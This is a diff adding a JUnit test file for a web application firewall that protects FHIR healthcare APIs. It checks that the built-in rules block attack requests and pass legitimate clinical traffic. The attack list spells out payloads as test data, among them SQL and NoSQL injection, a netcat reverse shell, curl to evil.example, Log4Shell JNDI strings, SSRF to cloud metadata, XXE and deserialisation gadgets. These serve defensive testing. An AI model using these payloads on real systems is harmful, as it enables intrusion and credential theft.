@@ -1,0 +1,208 @@
+package io.bastion.security;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.bastion.config.ConfigException;
+import io.bastion.config.ConfigLoader;
+import io.bastion.security.waf.WafRequest;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Bastion's own rules case by case: each attack form issue 4 names is blocked wherever it is put (query,
+ * argument name, JSON value or name, custom header, cookie, XML body), and the FHIR traffic that
+ * WAFs are known to trip on passes. The corpus-wide rates are {@link BuiltinRulesCorpusTest}'s.
+ */
+class BuiltinRulesTest {
+
+  private static WafReplay waf;
+
+  @BeforeAll
+  static void load() throws Exception {
+    waf = WafReplay.of(List.of(BuiltinRules.DEFAULT), 0);
+  }
+
+  static Stream<Arguments> attacks() {
+    return Stream.of(
+        // SQL injection
+        value("1' OR '1'='1"), value("x'; DROP TABLE patient; --"), value("1 UNION ALL SELECT username, password FROM users"),
+        value("1 AND SLEEP(5)"), value("' AND extractvalue(1,concat(0x7e,version()))='1"),
+        // NoSQL operators, in query names, JSON names and values
+        get("/fhir/Patient?name[$ne]=x"), get("/fhir/Patient?password[$regex]=.*"),
+        json("{\"resourceType\":\"Patient\",\"name\":{\"$gt\":\"\"}}"), value("', $where: 'sleep(5000)"),
+        json("{\"resourceType\":\"Patient\",\"id\":{\"$where\":\"this.ssn == 1\"}}"),
+        // LDAP
+        value("*)(uid=*))(|(uid=*"), value("admin)(&(objectClass=*)"),
+        // OS command
+        value("x; cat /etc/shadow"), value("a | nc 10.0.0.1 4444 -e /bin/sh"), value("$(curl http://evil.example/x)"),
+        value("`id`"), value("x&&whoami"), value("ping -c 3 127.0.0.1; ls -la /"),
+        // XSS, outside and inside narratives
+        value("<script>alert(1)</script>"), value("<img src=x onerror=alert(1)>"), value("<svg/onload=confirm`1`>"),
+        narrative("<p>fine</p><script>steal()</script>"), narrative("<p onclick=\"steal()\">click</p>"),
+        narrative("<a href=\"javascript:steal()\">notes</a>"), narrative("<a href=\"jav&#x09;ascript:x()\">x</a>"),
+        narrative("<img src=\"x\" onerror=\"alert(1)\"/>"), narrative("<iframe src=\"https://evil.example\"></iframe>"),
+        // path traversal, LFI
+        value("../../../../etc/passwd"), get("/fhir/Binary/..%2f..%2f..%2fetc%2fpasswd"), value("..\\..\\windows\\win.ini"),
+        value("/proc/self/environ"),
+        // RFI / SSRF, including cloud metadata in its disguises and URL-valued query arguments
+        value("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), value("http://[::ffff:a9fe:a9fe]/"),
+        value("http://2852039166/latest/meta-data/"), value("http://metadata.google.internal/computeMetadata/v1/"),
+        get("/fhir/Subscription?callback=http://127.0.0.1:6379/"), get("/fhir/x?url=http://localhost/admin"),
+        get("/fhir/x?u=http://0x7f000001/"), value("file:///etc/passwd"), value("gopher://127.0.0.1:6379/_SET"),
+        value("dict://internal:11211/stat"),
+        // XXE in a FHIR XML body and in values
+        xml("<?xml version=\"1.0\"?><!DOCTYPE Patient [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+            + "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&x;\"/></name></Patient>"),
+        value("<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">"),
+        // Log4Shell, plain and obfuscated, in a custom header
+        header("X-Api-Version", "${jndi:ldap://evil.example/a}"), header("X-Forwarded-User", "${${lower:j}ndi:rmi://x/y}"),
+        header("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"), value("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
+        value("%24%7Bjndi:dns://x%7D"),
+        // template injection
+        value("{{7*7}}"), value("${7*7}"), value("#{7*7}"), value("<%= 7*7 %>"), value("{{config.items()}}"),
+        // deserialisation gadgets
+        value("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), value("aced00057372"), value("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
+        value("cos\nsystem\n(S'id'\ntR."), json("{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}"),
+        value("!!python/object/apply:os.system [\"id\"]"),
+        // attacks in cookies
+        cookie("session=1' OR 1=1 --"), cookie("pref=<script>alert(1)</script>"),
+        // protocol violations
+        raw("TRACE", "/fhir/Patient", List.of(), null), raw("PROPFIND", "/fhir/Patient", List.of(), null),
+        raw("POST", "/fhir/Patient", List.of(new WafRequest.Header("Content-Length", "10"),
+            new WafRequest.Header("Transfer-Encoding", "chunked")), "{}"),
+        raw("GET", "/fhir/Patient", List.of(new WafRequest.Header("X-Note", "a\r\nSet-Cookie: x=1")), null),
+        get("/fhir/Patient?name=%zz"), get("/fhir/Patient?name=a%00b"), get("/fhir/Patient?name=%c0%ae%c0%ae%c0%af"));
+  }
+
+  static Stream<Arguments> legitimate() {
+    List<Arguments> out = new ArrayList<>();
+    for (String url : List.of("/fhir/Observation?_include=Observation:subject", "/fhir/Observation?date=ge2020-01-01",
+        "/fhir/Observation?code=http://loinc.org|1234-5", "/fhir/Patient?name:contains=bri",
+        "/fhir/Patient?_has:Observation:patient:code=1234-5", "/fhir/Patient/123/$everything",
+        "/fhir/Patient?_elements=name,birthDate", "/fhir/Patient?gender=male,female",
+        "/fhir/Patient?name=O%27Brien", "/fhir/Observation?code-value-quantity=8480-6$gt140",
+        "/fhir/metadata", "/admin/api/session", "/health/ready")) {
+      out.add(Arguments.of(url, request("GET", url, List.of(), null)));
+    }
+    for (String text : FhirBenignTraffic.FREE_TEXT) {
+      out.add(value(text));
+    }
+    out.add(narrative("<p><b>Siobhán O'Brien</b></p><table><tr><td>BP</td><td>142/91 &amp; falling</td></tr></table>"
+        + "<a href=\"https://ehr.example.org/x\">chart</a><img src=\"#sig\" alt=\"sig\"/>"));
+    out.add(Arguments.of("JSON Patch", request("PATCH", "/fhir/Patient/1", List.of(new WafRequest.Header("Content-Type",
+        "application/json-patch+json")), "[{\"op\":\"replace\",\"path\":\"/name/0/family\",\"value\":\"O'Brien\"}]")));
+    return out.stream();
+  }
+
+  @ParameterizedTest(name = "blocks {0}")
+  @MethodSource("attacks")
+  void blocksAttack(String label, WafRequest request) {
+    WafReplay.Verdict v = waf.run(request);
+    assertTrue(v.blocked(), label + " passed: " + v);
+  }
+
+  @ParameterizedTest(name = "passes {0}")
+  @MethodSource("legitimate")
+  void passesLegitimateFhirTraffic(String label, WafRequest request) {
+    WafReplay.Verdict v = waf.run(request);
+    assertFalse(v.blocked(), label + " blocked: " + v);
+  }
+
+  @Test
+  void noRulesConfiguredMeansTheBuiltinRules() {
+    WafConfig waf = ConfigLoader.withBuiltInDefaults().load(null, Map.of(), Map.of("waf.rules", "")).waf();
+    assertEquals(List.of(BuiltinRules.DEFAULT), waf.rules());
+  }
+
+  @Test
+  void unknownShippedSetIsAConfigProblem() {
+    var e = assertThrows(ConfigException.class, () -> ConfigLoader.withBuiltInDefaults().load(null, Map.of(),
+        Map.of("waf.mode", "on", "waf.rules", "builtin:no-such-set")));
+    assertTrue(e.getMessage().contains("builtin:no-such-set"), e.getMessage());
+  }
+
+  @Test
+  void everyShippedSetCompilesWithoutWarnings() throws Exception {
+    for (String set : List.of("builtin", "builtin:extras", "builtin:crs-fhir-before", "builtin:bastion-sqli")) {
+      InlineWaf loaded = InlineWaf.load(new WafConfig(WafConfig.Mode.ON, List.of(set), 0, 131_072, null, 100_000));
+      assertTrue(loaded.rules().ruleCount() > 0, set);
+      assertEquals(List.of(), loaded.rules().warnings(), set);
+    }
+  }
+
+  @Test
+  void blockingNamesTheScoreAndOnlyVariableNames() throws Exception {
+    InlineWaf inline = InlineWaf.load(new WafConfig(WafConfig.Mode.ON, List.of("builtin"), 0, 131_072, null, 100_000));
+    var tx = inline.begin(request("GET", "/fhir/Patient?name=" + enc("1' OR '1'='1 --"), List.of(), null));
+    tx.processRequestHeaders();
+    tx.processRequestBody();
+    assertEquals(InlineWaf.Outcome.BLOCKED, inline.outcome(tx));
+    var event = inline.event(tx, InlineWaf.Outcome.BLOCKED);
+    assertTrue(event.getInteger("anomalyScore") >= 5, event.encode());
+    assertTrue(event.getJsonArray("matchedVariables").contains("ARGS:name"), event.encode());
+    assertFalse(event.encode().contains("OR '1'"), event.encode());
+  }
+
+  // ---- request builders ----
+
+  private static Arguments value(String v) {
+    return Arguments.of("value " + v.replace('\n', ' '), request("GET", "/fhir/Patient?note=" + enc(v), List.of(), null));
+  }
+
+  private static Arguments get(String uri) {
+    return Arguments.of(uri, request("GET", uri, List.of(), null));
+  }
+
+  private static Arguments json(String body) {
+    return Arguments.of("JSON " + body, request("POST", "/fhir/Patient",
+        List.of(new WafRequest.Header("Content-Type", "application/fhir+json")), body));
+  }
+
+  private static Arguments narrative(String inner) {
+    String div = "<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\">" + inner.replace("\"", "\\\"") + "</div>";
+    return Arguments.of("narrative " + inner, request("POST", "/fhir/Condition",
+        List.of(new WafRequest.Header("Content-Type", "application/fhir+json")),
+        "{\"resourceType\":\"Condition\",\"text\":{\"status\":\"generated\",\"div\":\"" + div + "\"}}"));
+  }
+
+  private static Arguments xml(String body) {
+    return Arguments.of("XML " + body, request("POST", "/fhir/Patient",
+        List.of(new WafRequest.Header("Content-Type", "application/fhir+xml")), body));
+  }
+
+  private static Arguments header(String name, String value) {
+    return Arguments.of(name + ": " + value, request("GET", "/fhir/Patient", List.of(new WafRequest.Header(name, value)), null));
+  }
+
+  private static Arguments cookie(String cookie) {
+    return header("Cookie", cookie);
+  }
+
+  private static Arguments raw(String method, String uri, List<WafRequest.Header> headers, String body) {
+    return Arguments.of(method + " " + uri + " " + headers, request(method, uri, headers, body));
+  }
+
+  private static WafRequest request(String method, String uri, List<WafRequest.Header> extra, String body) {
+    List<WafRequest.Header> headers = new ArrayList<>(List.of(new WafRequest.Header("Host", "localhost:8080"),
+        new WafRequest.Header("Accept", "application/fhir+json"), new WafRequest.Header("User-Agent", GotestwafCorpus.BROWSER)));
+    headers.addAll(extra);
+    return new WafRequest(method, uri, "HTTP/1.1", headers, body == null ? null : body.getBytes(StandardCharsets.UTF_8),
+        "192.0.2.1");
+  }
+
+  private static String enc(String s) {
+    return URLEncoder.encode(s, StandardCharsets.UTF_8);
+  }
+}
